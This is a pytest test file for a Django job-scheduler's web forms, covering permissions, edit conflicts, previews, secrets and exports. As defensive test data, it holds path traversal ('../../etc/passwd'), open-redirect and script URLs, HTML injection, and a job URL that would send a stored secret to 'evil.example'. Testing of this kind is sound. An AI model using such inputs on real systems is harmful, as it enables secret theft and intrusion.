"""Jobs from a form: nothing typed is lost, nobody is overwritten, nobody reaches what is not theirs."""

from datetime import timedelta

import pytest
from cryptography.fernet import Fernet
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from playwright.sync_api import expect

from accounts.models import User
from audit.models import AuditEvent
from jobs import actions
from jobs.models import Job, JobSchedule, JobVersion, Status
from jobs.vault import Secret
from runs.models import Run
from tests.factories import NOON, ada, alice, bob, charlie, definition, job, script

pytestmark = pytest.mark.django_db

CREATE = "/jobs/new/"
HTTP = {
    "do": "save",
    "shown": "HTTP",
    "name": "greet",
    "description": "Says hello.\nIf it fails: ask next door.",
    "type": "HTTP",
    "priority": "HIGH",
    "schedule_type": "CRON",
    "cron_expression": "0 30 2 * * ?",
    "timezone": "Europe/Berlin",
    "payload-http_method": "POST",
    "payload-http_url": "https://example.com/hello",
    "payload-http_headers": "Accept: text/plain",
    "max_attempts": "3",
    "backoff_seconds": "30",
    "backoff_strategy": "EXPONENTIAL",
    "retry_on": "TIMEOUT, 5XX",
}
DUMMY = {
    "do": "save",
    "shown": "DUMMY",
    "name": "probe",
    "type": "DUMMY",
    "schedule_type": "INTERVAL",
    "interval_seconds": "300",
}
SCRIPT = {**DUMMY, "shown": "SCRIPT", "type": "SCRIPT", "payload-script_content": "#!/bin/sh\ntrue"}


@pytest.fixture
def owner():
    return alice()


def text(response) -> str:
    return response.content.decode()


def post(client, user, address: str, data: dict | None = None):
    client.force_login(user)
    return client.post(address, data or {})


def at(one: Job, what: str) -> str:
    return f"/jobs/{one.pk}/{what}/"


# Creating


def test_a_job_from_the_form_is_stored_armed_and_shown(client, owner):
    response = post(client, owner, CREATE, HTTP)
    made = Job.objects.get()
    assert (response.status_code, response.url) == (302, reverse("job_detail", args=[made.pk]))
    assert (made.owner, made.status, made.priority, made.version) == (owner, Status.SCHEDULED, "HIGH", 1)
    assert made.schedule.next_fire_at is not None
    assert made.payload.http_headers == {"Accept": "text/plain"}
    assert made.retry_policy.retry_on == ["TIMEOUT", "5XX"]


def test_a_mistake_saves_nothing_and_keeps_what_was_typed(client, owner):
    typed = {**HTTP, "cron_expression": "61 * * * *", "payload-http_url": "ftp://x", "max_attempts": "99"}
    shown = text(post(client, owner, CREATE, typed))
    assert not Job.objects.exists()
    for value in (
        "greet",
        "If it fails: ask next door.",
        "61 * * * *",
        "ftp://x",
        "Accept: text/plain",
        "99",
    ):
        assert value in shown
    assert "3 fields need a change" in shown


def test_the_cursor_stands_at_the_first_mistake_and_the_summary_leads_to_each(client, owner):
    shown = text(post(client, owner, CREATE, {**HTTP, "name": "", "timezone": "Mars/Base"}))
    assert shown.count("autofocus") - text(client.get(CREATE)).count("autofocus") == 1
    assert 'href="#id_name"' in shown
    assert 'href="#id_timezone"' in shown
    assert "Mars/Base" in shown


def test_an_empty_form_is_all_mistakes_and_no_error(client, owner):
    response = post(client, owner, CREATE, {"do": "save", "shown": "HTTP"})
    assert response.status_code == 200
    assert not Job.objects.exists()


def test_a_time_that_has_passed_is_refused_at_its_field(client, owner):
    once = {**DUMMY, "schedule_type": "ONCE", "run_at": "2020-01-01T00:00"}
    shown = text(post(client, owner, CREATE, once))
    assert not Job.objects.exists()
    assert "This time has passed" in shown


def test_save_and_run_once_goes_on_to_the_runs_own_address(client, owner):
    response = post(client, owner, CREATE, {**DUMMY, "do": "run"})
    assert response.status_code == 307
    assert response.url == at(Job.objects.get(), "run-now")


def test_operators_create_for_others_and_others_for_themselves(client, owner):
    post(client, bob(), CREATE, {**DUMMY, "owner": "Alice@example.com"})
    assert Job.objects.get().owner == owner
    post(client, owner, CREATE, {**DUMMY, "name": "mine", "owner": "bob@example.com"})
    assert Job.objects.get(name="mine").owner == owner


def test_an_owner_must_be_somebody(client):
    shown = text(post(client, bob(), CREATE, {**DUMMY, "owner": "nobody@example.com"}))
    assert "Nobody signs in with this address." in shown
    assert not Job.objects.exists()


def test_nobody_creates_without_signing_in(client):
    assert client.post(CREATE, DUMMY).status_code == 302
    assert not Job.objects.exists()


@pytest.mark.parametrize(("enabled", "made"), [(True, 1), (False, 0)])
def test_scripts_are_for_administrators_where_they_are_allowed(client, settings, enabled, made):
    settings.SCRIPT_ENABLED = enabled
    post(client, ada(), CREATE, {**SCRIPT, "owner": "ada@example.com"})
    assert Job.objects.count() == made


@pytest.mark.parametrize("somebody", [alice, bob])
def test_scripts_are_for_nobody_else(client, settings, somebody):
    settings.SCRIPT_ENABLED = True
    user = somebody()
    shown = text(post(client, user, CREATE, {**SCRIPT, "owner": user.email}))
    assert not Job.objects.exists()
    assert "Only administrators may create or change script jobs." in shown


# Looking before saving


def test_another_type_shows_its_fields_keeps_what_was_typed_and_complains_of_nothing(client, owner):
    shown = text(post(client, owner, CREATE, {**HTTP, "do": "look", "type": "DUMMY", "name": ""}))
    assert "payload-simulatedDelaySeconds" in shown
    assert 'name="payload-http_url" value="https://example.com/hello"' in shown
    assert "is-invalid" not in shown
    back = {**HTTP, "do": "look", "shown": ["HTTP", "DUMMY"]}
    assert 'value="https://example.com/hello"' in text(post(client, owner, CREATE, back))


@pytest.mark.browser
def test_another_type_offers_the_failures_of_that_type(visit, live_server):
    browser = visit(CREATE, alice())
    expect(browser.locator("[name=retry_on][value=HTTP_ERROR]")).to_be_visible()
    browser.locator("#type_DUMMY").check()
    expect(browser.locator("[name=retry_on][value=RANDOM_ERROR]")).to_be_visible()
    expect(browser.locator("[name=retry_on][value=HTTP_ERROR]")).to_have_count(0)


def test_a_type_whose_fields_nobody_has_seen_is_shown_before_it_is_saved(client, owner):
    shown = text(post(client, owner, CREATE, {**HTTP, "type": "DUMMY"}))
    assert not Job.objects.exists()
    assert "payload-simulatedDelaySeconds" in shown


def test_a_look_without_a_script_shows_the_next_fires(client, owner):
    shown = text(post(client, owner, CREATE, {**HTTP, "do": "look"}))
    assert "At 02:30 every day, Berlin" in shown
    assert shown.count('<td class="num muted w1 hide-m">') == 10


def test_an_address_may_say_what_a_new_job_is(client, owner):
    client.force_login(owner)
    asked = "?type=DUMMY&name=smoke-probe&schedule_type=INTERVAL&interval_seconds=60"
    shown = text(client.get(CREATE + asked))
    assert 'value="smoke-probe"' in shown
    assert "Every 1 min" in shown


@pytest.mark.parametrize("asked", ["?type=ROT", "?schedule_type=X", "?interval_seconds=x", "?name=%00"])
def test_an_address_that_makes_no_sense_is_no_error(client, owner, asked):
    client.force_login(owner)
    assert client.get(CREATE + asked).status_code == 200


# Copies


def test_a_copy_is_filled_in_but_not_made(client, owner):
    one = job(owner, type="HTTP", payload={"http_url": "https://example.com/x", "http_method": "PUT"})
    client.force_login(owner)
    shown = text(client.get(f"{CREATE}?from={one.pk}"))
    assert 'value="smoke-probe copy"' in shown
    assert "https://example.com/x" in shown
    assert Job.objects.count() == 1


def test_nobody_copies_what_is_not_theirs(client, owner):
    one = job(owner)
    client.force_login(charlie())
    assert client.get(f"{CREATE}?from={one.pk}").status_code == 404
    assert client.get(f"{CREATE}?from=%00").status_code == 404


def test_a_script_is_copied_by_administrators_alone(client, settings, owner):
    settings.SCRIPT_ENABLED = True
    one = script(owner)
    client.force_login(owner)
    assert client.get(f"{CREATE}?from={one.pk}").status_code == 403
    client.force_login(ada())
    assert client.get(f"{CREATE}?from={one.pk}").status_code == 200


# Editing


def edited(one: Job, **over) -> dict:
    return {**DUMMY, "name": one.name, "version": one.version, **over}


def test_an_edit_is_a_new_version(client, owner):
    one = job(owner)
    response = post(client, owner, at(one, "edit"), edited(one, name="renamed"))
    one.refresh_from_db()
    assert response.url == reverse("job_detail", args=[one.pk])
    assert (one.name, one.version) == ("renamed", 2)


def test_nobody_edits_what_is_not_theirs(client, owner):
    one = job(owner)
    assert post(client, charlie(), at(one, "edit"), edited(one, name="taken")).status_code == 404
    one.refresh_from_db()
    assert one.name == "smoke-probe"


def test_a_job_that_has_runs_keeps_its_type(client, owner):
    one = job(owner)
    Run.objects.create(job=one, scheduled_time=NOON)
    post(client, owner, at(one, "edit"), {**edited(one), "type": "HTTP", "shown": "HTTP"})
    one.refresh_from_db()
    assert one.type == "DUMMY"


def test_somebody_elses_edit_is_told_and_not_overwritten(client, owner):
    one = job(owner)
    mine = edited(one, name="mine")
    actions.edit(one, definition(name="theirs"), by=bob(), at=NOON)
    response = post(client, owner, at(one, "edit"), mine)
    assert response.status_code == 409
    assert "bob@example.com saved version 2" in text(response)
    assert 'value="mine"' in text(response)
    assert Job.objects.get().name == "theirs"


def test_an_edit_may_be_saved_over_somebody_elses_when_asked(client, owner):
    one = job(owner)
    actions.edit(one, definition(name="theirs"), by=bob(), at=NOON)
    post(client, owner, at(one, "edit"), edited(one, name="mine", version="2"))
    assert Job.objects.get().name == "mine"


def test_an_edit_keeps_what_the_form_does_not_show(client, owner):
    one = job(owner, safe_to_repeat=True)
    post(client, owner, at(one, "edit"), edited(one, name="renamed"))
    assert Job.objects.get().safe_to_repeat is True


def test_an_edit_made_from_an_old_page_does_not_undo_a_move(client, owner, monkeypatch):
    one = job(owner)
    edit = actions.edit

    def claimed_meanwhile(found, *args, **kwargs):
        Job.objects.update(status=Status.RUNNING)
        return edit(found, *args, **kwargs)

    monkeypatch.setattr(actions, "edit", claimed_meanwhile)
    post(client, owner, at(one, "edit"), edited(one, name="renamed"))
    assert Job.objects.get().status == Status.RUNNING


def test_a_once_job_whose_time_has_passed_may_still_be_renamed(client, owner):
    one = job(owner, schedule={"schedule_type": "ONCE", "run_at": "2020-01-01T00:00:00+00:00"})
    once = {"schedule_type": "ONCE", "run_at": "2020-01-01T00:00:00", "timezone": "UTC"}
    post(client, owner, at(one, "edit"), {**edited(one, name="renamed"), **once})
    assert Job.objects.get().name == "renamed"


def test_operators_hand_jobs_over(client, owner):
    one = job(owner)
    him = bob()
    post(client, him, at(one, "edit"), edited(one, owner=him.email))
    assert Job.objects.get().owner == him
    assert AuditEvent.objects.filter(action="JOB_HANDED_OVER").count() == 1


def test_an_edit_that_cannot_hand_the_job_over_changes_nothing(client, owner, monkeypatch):
    one, him = job(owner), bob()

    def gone(*args, **kwargs):
        raise Job.DoesNotExist

    monkeypatch.setattr(actions, "hand_over", gone)
    answer = post(client, him, at(one, "edit"), edited(one, name="renamed", owner=him.email))
    assert (answer.status_code, Job.objects.get().name) == (404, one.name)


def test_an_edit_does_not_take_a_job_from_whom_it_was_given_to_meanwhile(client, owner):
    one, him = job(owner), bob()
    typed = edited(one, name="renamed", owner=owner.email, owner_before=owner.email)
    actions.hand_over(one, charlie(), by=him)
    post(client, him, at(one, "edit"), typed)
    one = Job.objects.get()
    assert (one.name, one.owner.email) == ("renamed", "charlie@example.com")


def test_the_page_of_an_edit_says_whose_the_job_is(client, owner):
    one = job(owner)
    client.force_login(bob())
    assert f'name="owner_before" value="{owner.email}"' in text(client.get(at(one, "edit")))


@pytest.mark.parametrize("somebody", [alice, bob])
def test_a_script_is_edited_by_administrators_alone(client, settings, somebody):
    settings.SCRIPT_ENABLED = True
    user = somebody()
    one = script(user)
    assert post(client, user, at(one, "edit"), {**SCRIPT, "name": "x"}).status_code == 403
    assert Job.objects.get().name == "smoke-probe"


def test_the_form_shows_what_is_stored(client, owner):
    schedule = {"schedule_type": "CRON", "cron_expression": "*/5 * * * *", "timezone": "Asia/Tokyo"}
    one = job(owner, type="HTTP", schedule=schedule, payload={"http_url": "https://example.com/q"})
    client.force_login(owner)
    shown = text(client.get(at(one, "edit")))
    for value in ("*/5 * * * *", "Asia/Tokyo", "https://example.com/q", "Every 5 min"):
        assert value in shown


def test_the_form_costs_a_bounded_number_of_queries(client, owner):
    one = job(owner)
    client.force_login(owner)
    with CaptureQueriesContext(connection) as queries:
        client.get(at(one, "edit"))
    assert len(queries) <= 12


def test_the_note_of_an_edit_is_kept_with_its_version_and_in_the_audit(client, owner):
    one = job(owner)
    post(client, owner, at(one, "edit"), edited(one, name="renamed", note="the old name misled"))
    assert one.versions.get(version=2).note == "the old name misled"
    assert AuditEvent.objects.get(action="JOB_UPDATED").details["note"] == "the old name misled"


def test_tags_and_promises_come_from_the_form(client, owner):
    said = {**DUMMY, "tags": "Night, billing", "start_within_seconds": "60", "end_by": "06:00"}
    post(client, owner, CREATE, said)
    made = Job.objects.get()
    assert sorted(made.tags.values_list("name", flat=True)) == ["billing", "night"]
    assert str(made.schedule.promise) == "Starts within 1 min, ends by 06:00"


def test_what_is_wrong_with_tags_and_promises_is_told_and_kept(client, owner):
    said = {**DUMMY, "tags": "n" * 51, "start_within_seconds": "0", "end_by": "25:00"}
    shown = text(post(client, owner, CREATE, said))
    assert not Job.objects.exists()
    assert "3 fields need a change" in shown
    assert ["n" * 51 in shown, 'value="25:00"' in shown] == [True, True]


# Typing


def test_while_somebody_types_the_changes_are_shown_and_nothing_is_saved(client, owner):
    one = job(owner)
    shown = text(post(client, owner, at(one, "edit"), edited(one, do="typing", name="renamed")))
    assert "<html" not in shown
    assert "1 → 2" in shown
    assert "<del>smoke-probe</del> <ins>renamed</ins>" in shown
    assert Job.objects.get().version == 1


def test_a_secret_is_not_shown_among_the_changes(client, owner):
    said = {"http_url": "https://example.com/x", "http_method": "GET", "http_headers": {"X-Key": "old-one"}}
    one = job(owner, type="HTTP", payload=said)
    form = edited(one, do="typing", type="HTTP", shown="HTTP")
    form |= {"payload-http_url": said["http_url"], "payload-http_method": "GET"}
    shown = text(post(client, owner, at(one, "edit"), {**form, "payload-http_headers": "X-Key: new-one"}))
    assert "Headers" in shown
    assert ["old-one" in shown, "new-one" in shown] == [False, False]


def test_a_description_is_shown_as_it_will_look(client, owner):
    shown = text(post(client, owner, CREATE, {**DUMMY, "do": "typing", "description": "**Call** <b>bob</b>"}))
    assert "<strong>Call</strong> &lt;b&gt;bob&lt;/b&gt;" in shown


def test_typing_costs_a_bounded_number_of_queries(client, owner):
    one = job(owner)
    client.force_login(owner)
    with CaptureQueriesContext(connection) as queries:
        client.post(at(one, "edit"), edited(one, do="typing", name="renamed"))
    assert len(queries) <= 12


def test_a_conflict_tells_what_the_other_one_changed_and_why(client, owner):
    one = job(owner)
    mine = edited(one, name="mine")
    actions.edit(one, definition(name="theirs"), by=bob(), at=NOON, note="said so in the call")
    shown = text(post(client, owner, at(one, "edit"), mine))
    assert "said so in the call" in shown
    assert "<del>smoke-probe</del> <ins>theirs</ins>" in shown
    assert "<del>theirs</del> <ins>mine</ins>" in shown


def test_tags_are_suggested_to_those_who_may_see_them(client, owner):
    job(owner, tags=["night", "nightly"])
    for user, offered in ((owner, 2), (bob(), 2), (charlie(), 0)):
        client.force_login(user)
        shown = text(client.get(reverse("tag_suggestions"), {"tags": "day, ni"}))
        assert shown.count("<option") == offered
    assert client.get(reverse("tag_suggestions"), {"tags": "\0"}).status_code == 200


@pytest.mark.browser
def test_who_is_signed_out_keeps_the_page_and_saves_after_signing_in_again(visit, live_server, settings):
    user = alice()
    browser = visit("/jobs/new/?type=DUMMY&schedule_type=INTERVAL&interval_seconds=60", user)
    browser.get_by_role("textbox", name="Name").fill("kept")
    cookies = browser.context.cookies()
    browser.context.clear_cookies(name=settings.SESSION_COOKIE_NAME)
    browser.get_by_role("button", name="Save", exact=True).last.click()
    expect(browser.locator("#signed-out")).to_be_visible()
    assert browser.get_by_role("textbox", name="Name").input_value() == "kept"
    browser.context.add_cookies(cookies)
    browser.get_by_role("button", name="Save", exact=True).last.click()
    expect(browser.get_by_role("heading", name="kept")).to_be_visible()


@pytest.mark.browser
def test_what_changes_is_shown_while_it_is_typed(visit, live_server):
    user = alice()
    one = job(user)
    browser = visit(f"/jobs/{one.pk}/edit/", user)
    browser.get_by_role("textbox", name="Description").fill("# Call bob")
    expect(browser.locator("#edit")).to_contain_text("1 → 2")
    expect(browser.locator("#described h3")).to_have_text("Call bob")


# Preview


def preview(client, user, **fields) -> str:
    client.force_login(user)
    response = client.get(reverse("schedule_preview"), fields)
    assert response.status_code == 200
    return text(response)


def test_the_preview_reads_a_schedule_back_and_lists_ten_fires(client, owner):
    shown = preview(
        client, owner, schedule_type="CRON", cron_expression="0 30 2 * * ?", timezone="Europe/Berlin"
    )
    assert "At 02:30 every day, Berlin" in shown
    assert shown.count("<time") >= 10
    assert "Clock change." in shown
    assert "<html" not in shown


def test_the_preview_puts_an_edit_to_the_last_days(client, owner):
    one = job(owner, schedule={"schedule_type": "INTERVAL", "interval_seconds": 3600})
    daily = {"schedule_type": "CRON", "cron_expression": "0 30 2 * * ?"}
    assert "the saved schedule had 168 fires, this one 7" in preview(client, owner, job=one.pk, **daily)
    assert "Last 7 days: 7 fires." in preview(client, owner, **daily)


def test_the_preview_tells_with_whom_the_next_fire_is_shared(client, owner):
    daily = {"schedule_type": "CRON", "cron_expression": "0 30 2 * * ?", "timezone": "UTC"}
    one, *_ = [job(owner, at=timezone.now(), schedule=daily) for _ in range(3)]
    assert "Shares 02:30 with 2 other jobs." in preview(client, owner, job=one.pk, **daily)
    assert "Shares" not in preview(client, charlie(), **daily)


def test_the_preview_says_what_is_wrong(client, owner):
    assert "60" in preview(client, owner, schedule_type="CRON", cron_expression="60 * * * *")
    assert "appear here once" in preview(client, owner, schedule_type="CRON")


def test_the_preview_of_an_unchanged_interval_goes_on_where_it_stands(client, owner):
    daily = {"schedule_type": "INTERVAL", "interval_seconds": 86400}
    one = job(owner, at=NOON, schedule=daily)
    assert preview(client, owner, job=one.pk, **daily).count(", 12:00 UTC</time>") == 10
    assert preview(client, owner, **daily).count(", 12:00 UTC</time>") == 0


@pytest.mark.parametrize(
    "fields",
    [
        {"schedule_type": "X"},
        {"schedule_type": "INTERVAL", "interval_seconds": "9" * 400},
        {"schedule_type": "ONCE", "run_at": "9999-12-31T23:59", "timezone": "Pacific/Kiritimati"},
        {"schedule_type": "ONCE", "run_at": "0001-01-01T00:00", "timezone": "Pacific/Kiritimati"},
        {"schedule_type": "CRON", "cron_expression": "\x00"},
        {"schedule_type": "CRON", "cron_expression": "* " * 120},
        {"schedule_type": "CRON", "cron_expression": "* * * * *", "timezone": "../../etc/passwd"},
        {"schedule_type": "INTERVAL", "interval_seconds": "1", "jitter_seconds": "-1"},
    ],
)
def test_the_preview_survives_hostile_schedules(client, owner, fields):
    assert preview(client, owner, **fields)


def test_the_preview_reveals_nothing_of_others_jobs(client, owner):
    one = job(owner)
    client.force_login(charlie())
    assert client.get(reverse("schedule_preview"), {"job": one.pk}).status_code == 404
    assert client.get(reverse("schedule_preview"), {"job": "\x00"}).status_code == 404


# Pause, resume, delete


def test_pausing_keeps_the_note_and_comes_back_to_the_list(client, owner):
    one = job(owner)
    response = post(client, owner, at(one, "pause"), {"note": "ledger move", "next": "/jobs/?q=x"})
    one.refresh_from_db()
    assert (one.status, response.url) == (Status.PAUSED, "/jobs/?q=x")
    assert AuditEvent.objects.get(action="JOB_PAUSED").details["note"] == "ledger move"


def test_a_pause_may_end_by_itself(client, owner):
    one = job(owner)
    until = (timezone.now() + timedelta(days=2)).replace(microsecond=0, second=0)
    post(client, owner, at(one, "pause"), {"until": f"{until:%Y-%m-%dT%H:%M}"})
    assert JobSchedule.objects.get().paused_until == until


@pytest.mark.parametrize("until", ["2020-01-01T00:00", "tomorrow", "99999-01-01T00:00"])
def test_a_pause_until_a_time_that_makes_no_sense_is_told(client, owner, until):
    one = job(owner)
    shown = text(post(client, owner, at(one, "pause"), {"until": until, "note": "kept"}))
    assert "is-invalid" in shown
    assert 'value="kept"' in shown
    assert Job.objects.get().status == Status.SCHEDULED


@pytest.mark.parametrize(
    ("zone", "until"),
    [
        ("America/New_York", "9999-12-31T23:59"),
        ("Asia/Tokyo", "0001-01-01T00:00"),
        ("UTC", "9999-12-31T23:59"),
    ],
)
def test_a_pause_ends_within_the_calendar_of_every_zone(client, owner, zone, until):
    one = job(owner)
    client.cookies["chronos_tz"] = zone
    assert "is-invalid" in text(post(client, owner, at(one, "pause"), {"until": until}))
    assert client.get(reverse("job_list")).status_code == 200


def test_a_job_is_paused_once(client, owner):
    one = job(owner)
    post(client, owner, at(one, "pause"))
    response = post(client, owner, at(one, "pause"))
    assert response.status_code == 409
    assert "smoke-probe is paused: it cannot be paused." in text(response)


def test_resuming_arms_the_job_again(client, owner):
    one = job(owner)
    post(client, owner, at(one, "pause"))
    assert post(client, owner, at(one, "resume")).status_code == 302
    assert Job.objects.get().status == Status.SCHEDULED


def test_what_is_not_paused_is_not_resumed(client, owner):
    assert post(client, owner, at(job(owner), "resume")).status_code == 409


@pytest.mark.parametrize("what", ["pause", "resume", "delete"])
def test_nobody_steers_what_is_not_theirs(client, owner, what):
    one = job(owner)
    assert post(client, charlie(), at(one, what)).status_code == 404
    assert Job.objects.get().status == Status.SCHEDULED


def test_a_link_never_resumes_or_deletes(client, owner):
    one = job(owner)
    client.force_login(owner)
    assert client.get(at(one, "resume")).status_code == 405
    client.get(at(one, "delete"))
    client.get(at(one, "pause"))
    assert Job.objects.get().status == Status.SCHEDULED


@pytest.mark.parametrize(
    "address", ["https://evil.example/", "//evil.example/", "javascript:alert(1)", "foo"]
)
def test_nobody_is_sent_elsewhere(client, owner, address):
    one = job(owner)
    response = post(client, owner, at(one, "pause"), {"next": address})
    assert response.url == reverse("job_detail", args=[one.pk])


def test_deleting_says_what_goes_before_it_goes(client, owner):
    one = job(owner)
    for minute in range(3):
        Run.objects.create(job=one, scheduled_time=NOON + timedelta(minutes=minute))
    client.force_login(owner)
    shown = text(client.get(at(one, "delete")))
    assert "3 runs and their logs go too." in shown
    assert "will not happen" in shown
    assert post(client, owner, at(one, "delete")).url == reverse("job_list")
    assert not Job.objects.exists()
    assert not Run.objects.exists()
    assert AuditEvent.objects.get(action="JOB_DELETED").user_email == "alice@example.com"


def test_many_runs_are_not_counted_to_the_last(client, owner, monkeypatch):
    monkeypatch.setattr("jobs.views.MOST_COUNTED", 2)
    one = job(owner)
    for minute in range(4):
        Run.objects.create(job=one, scheduled_time=NOON + timedelta(minutes=minute))
    client.force_login(owner)
    assert "2+ runs and their logs go too." in text(client.get(at(one, "delete")))


# Secrets


@pytest.fixture
def token(settings):
    """A secret of alice's own."""
    settings.SECRETS_KEYS = [Fernet.generate_key().decode()]

    def make(owner):
        secret = Secret(name="token", owner=owner)
        secret.hide("s3cr3t")
        secret.save()

    return make


HTTP_WITH_SECRET = {
    **DUMMY,
    "type": "HTTP",
    "shown": "HTTP",
    "payload-http_method": "GET",
    "payload-http_url": "https://evil.example/{{ secret:token }}",
}


def test_the_owner_of_a_secret_uses_it(client, owner, token):
    token(owner)
    post(client, owner, CREATE, HTTP_WITH_SECRET)
    assert Job.objects.get().type == "HTTP"


def test_a_secret_that_is_not_there_is_told_at_its_field(client, owner):
    assert "There is no secret token" in text(post(client, owner, CREATE, HTTP_WITH_SECRET))
    assert not Job.objects.exists()


def test_an_operator_does_not_send_an_owners_secret_where_they_like(client, owner, token):
    token(owner)
    said = {**HTTP_WITH_SECRET, "owner": owner.email}
    assert "own: only they and administrators" in text(post(client, bob(), CREATE, said))
    assert not Job.objects.exists()
    one = job(owner)
    post(client, User.objects.get(email="bob@example.com"), at(one, "edit"), said)
    assert Job.objects.get().type == "DUMMY"


def test_an_administrator_may(client, owner, token):
    token(owner)
    post(client, ada(), CREATE, {**HTTP_WITH_SECRET, "owner": owner.email})
    assert Job.objects.get().owner == owner


def test_a_parameter_without_a_default_is_warned_of(client, owner):
    asking = {**DUMMY, "payload-failureMessage": "{{ param:zone }} {{ param:day=1 }}"}
    post(client, owner, CREATE, asking)
    told = [str(message) for message in client.get(CREATE).context["messages"]]
    assert told[1:] == [
        "Its scheduled runs will fail: {{ param:zone }} has no default, as {{ param:zone=text }} has."
    ]


# Spread


NIGHTLY = {"schedule": {"schedule_type": "CRON", "cron_expression": "0 2 * * *", "timezone": "UTC"}}


def test_what_was_ticked_fires_later(client, owner):
    made = job(owner, **NIGHTLY)
    client.force_login(owner)
    answer = client.post("/jobs/spread/", {"move": f"{made.pk}.1.10", "next": "/calendar/"}, follow=True)
    made.refresh_from_db()
    assert made.version == 2
    assert "1 job fires later." in answer.content.decode()


def test_nobody_spreads_the_jobs_of_others(client):
    made = job(**NIGHTLY)
    client.force_login(charlie())
    assert client.post("/jobs/spread/", {"move": f"{made.pk}.1.10"}).status_code == 404


@pytest.mark.parametrize(("move", "says"), [("9.10", "is at version 1"), ("1.60", "leave its hour")])
def test_what_cannot_be_moved_any_more_moves_nothing_and_says_why(client, owner, move, says):
    made, other = (job(owner, **NIGHTLY) for _ in range(2))
    client.force_login(owner)
    answer = client.post("/jobs/spread/", {"move": [f"{made.pk}.1.5", f"{other.pk}.{move}"]})
    made.refresh_from_db()
    assert (answer.status_code, made.version) == (409, 1)
    assert says in answer.content.decode()


@pytest.mark.parametrize(("move", "status"), [("nonsense", 404), ("x.1.2", 404), ([], 302)])
def test_moves_that_make_no_sense_are_no_error(client, move, status):
    client.force_login(alice())
    assert client.post("/jobs/spread/", {"move": move}).status_code == status


# Earlier versions


@pytest.fixture
def at_second(owner):
    """A job at its second version."""
    one = job(owner, name="first")
    return actions.edit(one, definition(name="second"), by=owner, at=NOON)


@pytest.mark.parametrize("who", ["owner", "operator"])
def test_owners_and_operators_restore_an_earlier_version(client, owner, at_second, who):
    user = owner if who == "owner" else bob()
    response = post(client, user, at(at_second, "versions/1/restore"), {"version": "2", "note": "as it was"})
    assert response.url == reverse("job_detail", args=[at_second.pk])
    at_second.refresh_from_db()
    assert (at_second.name, at_second.version) == ("first", 3)
    assert AuditEvent.objects.get(action="JOB_RESTORED").user_email == user.email


def test_others_restore_nothing(client, at_second):
    assert post(client, charlie(), at(at_second, "versions/1/restore"), {"version": "2"}).status_code == 404
    at_second.refresh_from_db()
    assert at_second.version == 2


def test_only_administrators_restore_what_a_script_job_runs(client, owner):
    one = script(owner)
    assert post(client, owner, at(one, "versions/1/restore"), {"version": "1"}).status_code == 403


def test_only_administrators_restore_a_version_that_was_a_script(client, owner, at_second):
    JobVersion.objects.filter(job=at_second, version=1).update(
        definition=definition(type="SCRIPT", payload={"script_content": "#!/bin/sh\ntrue"})
    )
    assert post(client, owner, at(at_second, "versions/1/restore"), {"version": "2"}).status_code == 403
    at_second.refresh_from_db()
    assert at_second.type == "DUMMY"


@pytest.mark.parametrize(
    ("number", "version", "sentence"),
    [
        (1, "1", "second is at version 2 by now."),
        (1, "", "second is at version 2 by now."),
        (1, "x", "second is at version 2 by now."),
        (2, "2", "second is as it was in version 2: there is nothing to restore."),
    ],
)
def test_what_cannot_be_restored_now_is_told(client, owner, at_second, number, version, sentence):
    response = post(client, owner, at(at_second, f"versions/{number}/restore"), {"version": version})
    assert response.status_code == 409
    assert sentence in text(response)


def test_a_version_whose_plan_can_no_longer_be_kept_is_refused(client, owner, at_second):
    bad = definition(schedule={"schedule_type": "CRON", "cron_expression": "61 * * * *"})
    JobVersion.objects.filter(job=at_second, version=1).update(definition=bad)
    response = post(client, owner, at(at_second, "versions/1/restore"), {"version": "2"})
    assert response.status_code == 409
    at_second.refresh_from_db()
    assert (at_second.name, at_second.version) == ("second", 2)


@pytest.mark.parametrize("number", ["0", "7", "9" * 30])
def test_a_version_that_is_not_there_is_not_found(client, owner, at_second, number):
    address = at(at_second, f"versions/{number}/restore")
    assert post(client, owner, address, {"version": "2"}).status_code == 404


# The job as a file


def test_a_job_is_a_file_that_imports_and_hides_its_secrets(client, owner):
    payload = {"http_url": "https://a.example/", "http_headers": {"Authorization": "Bearer topsecret"}}
    one = job(owner, name='Grüße "x"\n', type="HTTP", payload={**payload, "http_method": "GET"})
    client.force_login(owner)
    response = client.get(at(one, "export"))
    assert response["Content-Disposition"] == 'attachment; filename="grue-x.json"'
    assert [each["name"] for each in response.json()["jobs"]] == [one.name]
    assert "topsecret" not in text(response)


def test_a_job_whose_name_makes_no_file_name_goes_by_its_id(client, owner):
    one = job(owner, name="日報")
    client.force_login(owner)
    assert f'"{one.pk}.json"' in client.get(at(one, "export"))["Content-Disposition"]


def test_the_file_is_for_those_who_see_the_job(client, owner):
    one = job(owner)
    client.force_login(charlie())
    assert client.get(at(one, "export")).status_code == 404


# Undo


def test_a_pause_and_a_resume_offer_to_take_them_back(client, owner):
    one = job(owner)
    for do, undo in (("pause", "resume"), ("resume", "pause")):
        post(client, owner, at(one, do))
        shown = text(client.get(reverse("job_detail", args=[one.pk])))
        assert f'form="undo" data-key="u" formaction="{at(one, undo)}"' in shown
        assert '<form method="post" id="undo">' in shown


def test_the_offer_leaves_a_hostile_name_harmless(client, owner):
    one = job(owner, name="<b>bold</b>")
    post(client, owner, at(one, "pause"))
    shown = text(client.get(reverse("job_detail", args=[one.pk])))
    assert "&lt;b&gt;bold&lt;/b&gt; is paused." in shown
    assert "<b>bold</b>" not in shown
